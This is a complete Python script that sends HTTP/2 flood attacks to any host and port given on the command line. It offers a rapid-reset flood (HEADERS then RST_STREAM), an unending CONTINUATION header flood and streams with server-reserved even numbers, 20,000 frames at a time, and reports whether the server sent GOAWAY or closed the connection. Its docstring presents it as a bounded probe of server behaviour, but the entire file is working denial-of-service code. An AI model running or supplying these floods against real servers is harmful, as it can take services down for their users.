"""Floods of HTTP/2. In: an address, a port, which flood. Out: how the server ended the connection. It sends a bounded number of
frames and then waits a bounded time."""

import socket
import ssl
import struct
import sys

HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
# GET, https, and two literals that no table keeps (RFC 7541).
HEAD = b"\x82\x87\x04\x08/version\x01\x06server"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def resets(number):
    stream = 2 * number + 1
    return frame(HEADERS, 5, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuations(number):
    # A literal with a name and a value of 8 kB; the block never ends.
    field = b"\x00\x01x" + b"\x7f" + bytes([0x81, 0x3e]) + b"y" * 8064
    return frame(HEADERS, 1, 1, HEAD) if number == 0 else frame(CONTINUATION, 0, 1, field)


def broken(number):
    # A stream with an even number is the server's (RFC 9113, section 5.1.1).
    return frame(HEADERS, 5, 2 * number + 2, HEAD)


def ended(connection):
    data = b""
    while True:
        length = int.from_bytes(data[:3], "big") if len(data) >= 9 else None
        if length is not None and len(data) >= 9 + length:
            if data[3] == GOAWAY:
                return "goaway %d" % int.from_bytes(data[13:17], "big")
            data = data[9 + length :]
            continue
        more = connection.recv(65536)
        if not more:
            return "closed"
        data += more


def main():
    host, port, which = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection((host, port)))
    connection.settimeout(60)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    make = {"resets": resets, "continuations": continuations, "broken": broken}[which]
    try:
        for number in range(20000):
            connection.sendall(make(number))
        print("taken:", ended(connection))
    except (ConnectionError, ssl.SSLError):
        print("ended:", "closed")
    except socket.timeout:
        print("taken: nothing")


main()
